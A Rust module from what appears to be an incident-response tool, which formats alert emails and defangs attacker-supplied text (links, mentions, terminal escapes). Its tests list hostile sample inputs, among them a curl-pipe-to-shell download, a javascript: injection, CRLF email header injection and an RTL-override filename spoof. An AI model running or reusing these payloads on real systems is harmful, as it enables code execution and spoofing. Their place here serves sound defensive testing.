//! A letter in plain words, with everything in it that came from outside made harmless.

use super::Letter;
use crate::respond::incident::Phase;

/// Letters or digits of any script: what stands around a dot that makes a link.
fn word(c: Option<char>) -> bool {
    c.is_some_and(char::is_alphanumeric)
}

/// Makes links, addresses and names of hosts unclickable, and mentions of people dead: `hxxp://192[.]0[.]2[.]7`, `(at)here`. Characters
/// that would move a terminal or a reader's eye stand as escapes. The ids of techniques (`T1098.004`) are left as they are.
pub fn defang(text: &str) -> String {
    let text = crate::show::line(text);
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len() + 16);
    for (i, &c) in chars.iter().enumerate() {
        let before = i.checked_sub(1).and_then(|n| chars.get(n).copied());
        let after = chars.get(i + 1).copied();
        match c {
            '.' | '\u{3002}' | '\u{ff0e}' | '\u{ff61}'
                if word(before) && word(after) && !technique(&chars, i) =>
            {
                out.push_str("[.]");
            }
            ':' if after == Some('/') && chars.get(i + 2) == Some(&'/') => out.push_str("[:]"),
            '@' | '\u{ff20}' => out.push_str("(at)"),
            _ => out.push(c),
        }
    }
    // Schemes that a client makes links of without slashes.
    for scheme in ["http", "ftp", "mailto:", "tel:", "javascript:", "data:"] {
        out = disarm(&out, scheme);
    }
    out
}

/// The dot at `at` is the one of a technique's id.
fn technique(chars: &[char], at: usize) -> bool {
    let digits = |range: std::ops::Range<usize>| {
        chars
            .get(range)
            .is_some_and(|d| !d.is_empty() && d.iter().all(char::is_ascii_digit))
    };
    let Some(start) = at.checked_sub(5) else {
        return false;
    };
    chars.get(start) == Some(&'T')
        && digits(start + 1..at)
        && digits(at + 1..at + 4)
        && !word(chars.get(at + 4).copied())
        && !word(start.checked_sub(1).and_then(|n| chars.get(n).copied()))
}

/// Writes a scheme so that nothing takes it for one: `hxxp`, `fxp`, `mailto[:]`.
fn disarm(text: &str, scheme: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    while let Some(found) = lower.get(at..).and_then(|rest| rest.find(scheme)) {
        let (start, end) = (at + found, at + found + scheme.len());
        out.push_str(text.get(at..start).unwrap_or_default());
        let original = text.get(start..end).unwrap_or_default();
        match scheme {
            "http" => out.push_str("hxxp"),
            "ftp" => out.push_str("fxp"),
            _ => out.push_str(&original.replace(':', "[:]")),
        }
        at = end;
    }
    out.push_str(text.get(at..).unwrap_or_default());
    out
}

/// The phase in a word.
pub fn phase(letter: &Letter) -> &'static str {
    match letter.message.phase {
        Phase::Open => "opened",
        Phase::Update => "update",
        Phase::Close => "closed",
    }
}

/// One line: what mail has as its subject.
pub fn subject(letter: &Letter) -> String {
    let m = &letter.message;
    format!(
        "[{}] {} {}: {} ({})",
        letter.sensor,
        m.incident,
        m.severity.name(),
        defang(&m.title),
        phase(letter)
    )
}

/// Everything, in lines.
pub fn body(letter: &Letter) -> String {
    let m = &letter.message;
    let mut out = format!(
        "{}\n\nincident {} {}, severity {}, sensor {}, {} UTC\n",
        defang(&m.title),
        m.incident,
        phase(letter),
        m.severity.name(),
        letter.sensor,
        crate::show::time(m.time)
    );
    if !m.lines.is_empty() {
        out.push('\n');
    }
    for line in &m.lines {
        out.push_str("- ");
        out.push_str(&defang(line));
        out.push('\n');
    }
    if m.more > 0 {
        out.push_str(&format!("- and {} more\n", m.more));
    }
    if m.phase == Phase::Close {
        out.push_str("\nNothing more for a while: this incident is closed.\n");
    }
    if let Some(c) = &m.campaign {
        out.push_str(&format!("\nThe whole story: turncoat campaign report {c}\n"));
    }
    out
}

/// At most so many characters, cut at a line where that is possible.
pub fn within(text: &str, most: usize) -> String {
    if text.chars().count() <= most {
        return text.to_owned();
    }
    let cut: String = text.chars().take(most.saturating_sub(2)).collect();
    let end = cut.rfind('\n').filter(|n| *n > most / 2).unwrap_or(cut.len());
    format!("{}\n\u{2026}", cut.get(..end).unwrap_or_default())
}

#[cfg(test)]
/// What intruders may write, for the tests of every way.
pub mod tests {
    use super::*;
    use crate::respond::incident::{Message, Severity};
    use turncoat_event::Time;

    /// A letter whose every text an intruder wrote.
    pub fn letter(text: &str) -> Letter {
        Letter::new(
            "gate",
            Message {
                incident: "I-3".into(),
                number: 2,
                phase: Phase::Update,
                severity: Severity::High,
                title: format!("C-1: {text}"),
                lines: vec![text.into(), format!("{text} again")],
                more: 4,
                campaign: Some("C-1".into()),
                time: Time(1_795_435_200_000_000_000),
                opened: Time(1_795_435_100_000_000_000),
            },
        )
    }

    /// What intruders write to be fetched, clicked, or to call people.
    pub const HOSTILE: &[&str] = &[
        "curl http://192.0.2.7/x.sh|sh",
        "HTTPS://Evil.Example/?q=1",
        "<!channel> @here @everyone <@U123>",
        "[click](http://evil.example) ![x](https://evil.example/p.png)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "mailto:a@b.example tel:+123",
        "evil\u{3002}example",
        "\u{1b}]0;x\u{7}\u{202e}gpj.exe",
        "a\r\nBcc: everybody@example.org\r\n\r\nbody",
        ".\r\n.\r\nMAIL FROM:<x>",
        "``` ``` **bold** ~~ || spoiler ||",
        "CEF:0|x|y|1|2|3|10|msg=a=b\\|c\n",
    ];

    #[test]
    fn nothing_that_a_client_would_act_on_is_left() {
        for text in HOSTILE {
            let all = format!("{}\n{}", subject(&letter(text)), body(&letter(text)));
            let lower = all.to_lowercase();
            for bad in [
                "://",
                "http",
                "@",
                "mailto:",
                "javascript:",
                "evil.example",
                "\u{1b}",
                "\r",
                "\u{202e}",
            ] {
                assert!(!lower.contains(bad), "{bad} in {all}");
            }
        }
        assert_eq!(defang("T1098.004 at 192.0.2.7."), "T1098.004 at 192[.]0[.]2[.]7.");
        assert_eq!(defang("xT1098.004"), "xT1098[.]004");
    }

    #[test]
    fn any_text_is_defanged_in_bounds() {
        let parts = [
            "http", "://", ".", "@", "T1098", ".004", "\u{e9}", "\n", "x", "\u{3002}", "ftp", "İ", "K",
        ];
        let mut x = 7u64;
        for _ in 0..5_000 {
            let mut t = String::new();
            for _ in 0..12 {
                x = x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                t.push_str(parts[(x >> 33) as usize % parts.len()]);
            }
            let d = defang(&t);
            assert!(
                d.len() <= t.len() * 6 && !d.to_ascii_lowercase().contains("http"),
                "{t} {d}"
            );
            assert!(within(&t, 10).chars().count() <= 10);
        }
    }
}
